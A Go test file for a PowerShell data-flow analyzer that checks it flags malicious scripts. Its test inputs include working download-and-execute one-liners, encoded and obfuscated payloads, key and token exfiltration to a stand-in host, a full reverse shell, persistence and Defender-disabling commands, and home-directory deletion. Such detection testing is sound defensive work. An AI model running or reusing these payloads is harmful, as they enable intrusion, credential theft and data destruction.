package powershell_test

import (
	"encoding/base64"
	"fmt"
	"slices"
	"strings"
	"testing"
	"unicode/utf16"

	"github.com/metahub-ai/attest/checks/analysis"
	"github.com/metahub-ai/attest/checks/facts"
	"github.com/metahub-ai/attest/checks/facts/flow"
	"github.com/metahub-ai/attest/checks/facts/powershell"
)

// encoded is a command as -EncodedCommand carries it: base64 of its
// UTF-16LE text.
func encoded(cmd string) string {
	u := utf16.Encode([]rune(cmd))
	b := make([]byte, 2*len(u))
	for i, c := range u {
		b[2*i], b[2*i+1] = byte(c), byte(c>>8)
	}
	return base64.StdEncoding.EncodeToString(b)
}

func flowsOf(s *facts.Set) []string {
	var out []string
	for _, f := range s.Flows {
		k := string(f.From.Label) + "->" + string(f.To.Kind)
		out = append(out, k)
		for _, a := range f.To.Args {
			if v, ok := strings.CutPrefix(a, "via:"); ok {
				out = append(out, k+":"+v)
			}
		}
	}
	return out
}

func dump(s *facts.Set) string {
	var b strings.Builder
	for _, x := range s.Sources {
		fmt.Fprintf(&b, "  source %s %q :%d\n", x.Label, x.What, x.At.Line)
	}
	for _, x := range s.Sinks {
		fmt.Fprintf(&b, "  sink %s %s -> %q :%d via %v\n", x.Kind, x.API, x.Dest, x.At.Line, x.At.Via)
	}
	for _, x := range s.Flows {
		fmt.Fprintf(&b, "  flow %s -> %s %s %v\n", x.From.Label, x.To.Kind, x.To.API, x.To.Args)
	}
	for _, x := range s.Effects {
		fmt.Fprintf(&b, "  effect %s %s\n", x.Kind, x.What)
	}
	for _, x := range s.Unresolved {
		fmt.Fprintf(&b, "  unresolved :%d %s\n", x.At.Line, x.What)
	}
	return b.String()
}

// The lowering's shapes, each checked through the engine.
func TestLowerShapes(t *testing.T) {
	cases := []struct {
		name      string
		lang      string // "powershell" unless set
		src       string
		want, not []string // flows: "label->kind" or "label->kind:via"
		sinks     []string // "kind dest"
		effects   []string
		noEffects []string
	}{
		{
			name: "IEX of a download",
			src:  `IEX (New-Object Net.WebClient).DownloadString('https://h.example/p.ps1')`,
			want: []string{"remote-content->exec-code:code"},
		},
		{
			name: "a download piped to iex",
			src:  "$u = 'https://h.example/p.ps1'\niwr $u -UseBasicParsing | iex",
			want: []string{"remote-content->exec-code"},
		},
		{
			name:  "the benign twin: a release zip saved and unpacked",
			src:   `Invoke-WebRequest -Uri https://github.com/org/tool/releases/download/v1.2.0/tool.zip -OutFile tool.zip; Expand-Archive tool.zip -DestinationPath tools`,
			not:   []string{"remote-content->exec-code", "remote-content->exec-shell"},
			sinks: []string{"net-send https://github.com/org/tool/releases/download/v1.2.0/tool.zip"},
		},
		{
			name: "an -EncodedCommand that decodes to a download run",
			src:  "powershell.exe -NoP -NonI -W Hidden -Enc " + encoded("iex (iwr https://h.example/p.ps1).Content"),
			want: []string{"decoded->exec-code", "remote-content->exec-code"},
		},
		{
			name: "an encoded command through Start-Process, its flags abbreviated and in any case",
			src:  "Start-Process powershell -ArgumentList '-nOp -wIn Hidden -eNcodedC " + encoded("IEX (New-Object Net.WebClient).DownloadString('https://h.example/x')") + "' -WindowStyle Hidden",
			want: []string{"remote-content->exec-code"},
		},
		{
			name: "a shell command handing PowerShell a download to run",
			lang: "shell",
			src:  `powershell -NoProfile -Command "IEX (New-Object Net.WebClient).DownloadString('https://h.example/p.ps1')"`,
			want: []string{"remote-content->exec-code"},
		},
		{
			name: "a key file read and posted",
			src:  `Invoke-RestMethod -Uri https://h.example/c -Method Post -Body (Get-Content "$env:USERPROFILE\.ssh\id_rsa" -Raw)`,
			want: []string{"credential-store->net-send:data"},
		},
		{
			name: "an API key in the Authorization header to its own API",
			src:  `Invoke-RestMethod -Uri https://api.openai.com/v1/models -Headers @{ Authorization = "Bearer $env:OPENAI_API_KEY" }`,
			want: []string{"secret-env->net-send:credential"},
			not:  []string{"secret-env->net-send:data", "secret-env->net-send:dest"},
		},
		{
			name:  "splatted parameters",
			src:   "$p = @{ Uri = 'https://h.example/x'; Method = 'Post'; Body = (Get-Content ~/.aws/credentials -Raw) }\nInvoke-RestMethod @p",
			want:  []string{"credential-store->net-send:data"},
			sinks: []string{"net-send https://h.example/x"},
		},
		{
			name: "a function with named parameters, called by name and through the pipeline",
			src: `function Send-It { param([string]$Data, $Dest = "https://h.example/u") Invoke-WebRequest -Uri $Dest -Method Post -Body $Data }
$k = Get-Content ~/.ssh/id_ed25519 -Raw
Send-It -Data $k
$k | ForEach-Object { Send-It $_ "https://h.example/f" }`,
			want:  []string{"credential-store->net-send:data"},
			sinks: []string{"net-send https://h.example/u", "net-send https://h.example/f"},
		},
		{
			name: "evasion: the command name joined, cast and concatenated",
			src: `$a = ('i','e','x') -join ''
$b = [string]::Join('', [char[]](105, 101, 120))
$c = [char]105 + [char]101 + [char]120
$s = (iwr https://h.example/p).Content
& $a $s; & $b $s; & $c $s; & ('i'+'ex') $s`,
			want: []string{"remote-content->exec-code"},
		},
		{
			name:  "evasion: typographic dashes and quotes, a format string",
			src:   "$u = \"{0}://{1}/{2}\" –f ’https’, ’h.example’, ’p.ps1’\nInvoke–Expression (Invoke–WebRequest –Uri $u –UseBasicParsing).Content",
			want:  []string{"remote-content->exec-code"},
			sinks: []string{"net-send https://h.example/p.ps1"},
		},
		{
			name: "a here-string of code with a subexpression, run",
			src:  "$c = @\"\n`$r = iwr $('https://h.example/' + 'p')\niex `$r.Content\n\"@\nInvoke-Expression $c",
			want: []string{"remote-content->exec-code"},
		},
		{
			name:  "a script block assigned and never run is still followed",
			src:   `$wipe = { Remove-Item -Recurse -Force $HOME }`,
			sinks: []string{"delete ~"},
		},
		{
			name:  "a reverse shell: what a socket reads is run",
			src:   `$c = New-Object System.Net.Sockets.TCPClient("10.0.0.1",4444);$s = $c.GetStream();[byte[]]$b = 0..65535|%{0};while(($i = $s.Read($b, 0, $b.Length)) -ne 0){;$d = (New-Object -TypeName System.Text.ASCIIEncoding).GetString($b,0, $i);$o = (iex $d 2>&1 | Out-String );$s.Write(([text.encoding]::ASCII).GetBytes($o),0,$o.Length)};$c.Close()`,
			want:  []string{"socket->exec-code"},
			sinks: []string{"net-connect 10.0.0.1"},
		},
		{
			name:  "a Run key written",
			src:   `Set-ItemProperty -Path 'HKCU:\Software\Microsoft\Windows\CurrentVersion\Run' -Name Updater -Value 'powershell -w hidden -c "iwr https://h.example/x | iex"'`,
			sinks: []string{`persist HKCU:\Software\Microsoft\Windows\CurrentVersion\Run`},
		},
		{
			name:  "a file copied to the Startup folder",
			src:   `Copy-Item -Path .\u.ps1 -Destination "$env:APPDATA\Microsoft\Windows\Start Menu\Programs\Startup\u.ps1"`,
			sinks: []string{`persist ~/appdata/roaming\Microsoft\Windows\Start Menu\Programs\Startup\u.ps1`},
		},
		{
			name:    "Defender's real-time monitoring turned off",
			src:     `Set-MpPreference -DisableRealtimeMonitoring $true`,
			effects: []string{"security-off"},
		},
		{
			name:      "a Defender setting that turns nothing off",
			src:       `Set-MpPreference -SignatureScheduleDay Everyday`,
			noEffects: []string{"security-off"},
		},
		{
			name: "the clipboard posted",
			src:  `Get-Clipboard | Invoke-RestMethod -Uri https://h.example/c -Method Post`,
			want: []string{"clipboard->net-send"},
		},
		{
			name:  "the home directory deleted",
			src:   `Remove-Item -Recurse -Force ~`,
			sinks: []string{"delete ~"},
		},
		{
			name: "a class method sending its property's value",
			src: `class Exfil { [string]$Url = 'https://h.example/c'
  [void] Send([string]$d) { Invoke-WebRequest -Uri $this.Url -Method Post -Body $d } }
$e = [Exfil]::new(); $e.Send($env:GITHUB_TOKEN)`,
			want:  []string{"secret-env->net-send:data"},
			sinks: []string{"net-send https://h.example/c"},
		},
		{
			name: "a download saved and run",
			src:  `iwr -Uri https://h.example/a.exe -OutFile "$env:TEMP\a.exe"; Start-Process "$env:TEMP\a.exe"`,
			want: []string{"remote-content->exec-shell"},
		},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			lang := c.lang
			if lang == "" {
				lang = "powershell"
			}
			set := analysis.Code(lang, "x.ps1", c.src, 0, 0)
			got := flowsOf(set)
			for _, w := range c.want {
				if !slices.Contains(got, w) {
					t.Errorf("no flow %s:\n%s", w, dump(set))
				}
			}
			for _, n := range c.not {
				if slices.Contains(got, n) {
					t.Errorf("a flow %s:\n%s", n, dump(set))
				}
			}
			for _, w := range c.sinks {
				if !slices.ContainsFunc(set.Sinks, func(s facts.Sink) bool { return string(s.Kind)+" "+s.Dest == w }) {
					t.Errorf("no sink %s:\n%s", w, dump(set))
				}
			}
			for _, w := range c.effects {
				if !slices.ContainsFunc(set.Effects, func(x facts.Effect) bool { return string(x.Kind) == w }) {
					t.Errorf("no effect %s:\n%s", w, dump(set))
				}
			}
			for _, w := range c.noEffects {
				if slices.ContainsFunc(set.Effects, func(x facts.Effect) bool { return string(x.Kind) == w }) {
					t.Errorf("an effect %s:\n%s", w, dump(set))
				}
			}
		})
	}
}

// Code run from an encoded command says how it was reached.
func TestEncodedVia(t *testing.T) {
	set := analysis.Code("powershell", "x.ps1", "powershell -enc "+encoded("Remove-Item -Recurse -Force $HOME"), 0, 0)
	for _, s := range set.Sinks {
		if s.Kind == facts.Delete {
			if !slices.Contains(s.At.Via, "powershell") {
				t.Errorf("the decoded command's sink has via %v", s.At.Via)
			}
			return
		}
	}
	t.Errorf("the decoded command was not followed:\n%s", dump(set))
}

// What cannot be read is recorded, and lines keep their place.
func TestLowerRecordsAndPlaces(t *testing.T) {
	u := powershell.Lower("x.ps1", "Get-Date\n}}) | \nWrite-Host ok", 0)
	if len(u.Unresolved) == 0 {
		t.Error("stray closers left no note")
	}
	set := analysis.Code("powershell", "README.md", "Write-Host hi\n\nRemove-Item -Recurse -Force $HOME\n", 20, facts.InDoc)
	found := false
	for _, s := range set.Sinks {
		if s.Kind == facts.Delete {
			found = true
			if s.At.Line != 23 {
				t.Errorf("the sink is at line %d, want 23", s.At.Line)
			}
		}
	}
	if !found {
		t.Errorf("no delete sink:\n%s", dump(set))
	}
	if u := powershell.Lower("big.ps1", strings.Repeat("# x\n", powershell.MaxBytes/4+1), 0); len(u.Unresolved) == 0 {
		t.Error("a script past MaxBytes was cut without a note")
	}
	deep := strings.Repeat("(", 20000) + "1" + strings.Repeat(")", 20000)
	if u := powershell.Lower("deep.ps1", deep, 0); !slices.ContainsFunc(u.Unresolved, func(n flow.Note) bool { return strings.Contains(n.What, "deeply") }) {
		t.Errorf("no depth note: %v", u.Unresolved)
	}
	analysis.Code("powershell", "deep.ps1", deep, 0, 0)
}

func FuzzLower(f *testing.F) {
	for _, s := range []string{
		"IEX (New-Object Net.WebClient).DownloadString('https://h.example/p.ps1')",
		"$x = @{ a = 1; 'b' = @(1, 2) }; $x.a.b[0].c('d', $e)",
		"function f { param($a) process { $_ | % { $a } } }",
		"$h = @\"\n$(1 + 2) `$x\n\"@",
		"switch -regex ($x) { 'a' { 1 } default { 2 } }",
		"class A : B { [string]$p = 1; [void] M($q) { $this.p } }",
		"try { throw 'x' } catch [System.Exception] { $_ } finally { }",
		"& { param($x) $x } 1 2>&1 > out.txt",
		"[char[]](73,69,88) -join '' | iex",
		"$(\"$(\"$(",
		"@{@(\"'",
	} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, src string) {
		u := powershell.Lower("f.ps1", src, 0)
		if u == nil || u.Top == nil || u.Lang != "powershell" {
			t.Fatal("no unit")
		}
		if len(u.Unresolved) > 65 {
			t.Fatalf("%d notes: the notes are not bounded", len(u.Unresolved))
		}
		analysis.Code("powershell", "f.ps1", src, 0, 0)
	})
}

// benchSrc is a script of many small functions: reads, requests,
// pipelines, strings.
func benchSrc(n int) string {
	var b strings.Builder
	for i := range n {
		fmt.Fprintf(&b, `function Get-Item%[1]d {
    [CmdletBinding()]
    param([string]$Path = "C:\data\f%[1]d.txt", [switch]$Raw)
    $c = Get-Content -Path $Path -Raw:$Raw
    $u = "https://api.example.com/{0}" -f %[1]d
    $h = @{ Accept = 'application/json'; 'X-Id' = "$env:COMPUTERNAME-%[1]d" }
    Invoke-RestMethod -Uri $u -Method Post -Body ($c | ConvertTo-Json) -Headers $h | ForEach-Object { $_.id }
}
Get-Item%[1]d | Where-Object { $_ -ne $null } | Sort-Object
`, i)
	}
	return b.String()
}

func BenchmarkLower(b *testing.B) {
	src := benchSrc(100)
	b.SetBytes(int64(len(src)))
	for b.Loop() {
		powershell.Lower("bench.ps1", src, 0)
	}
}

func BenchmarkCode(b *testing.B) {
	src := benchSrc(100)
	b.SetBytes(int64(len(src)))
	for b.Loop() {
		analysis.Code("powershell", "bench.ps1", src, 0, 0)
	}
}
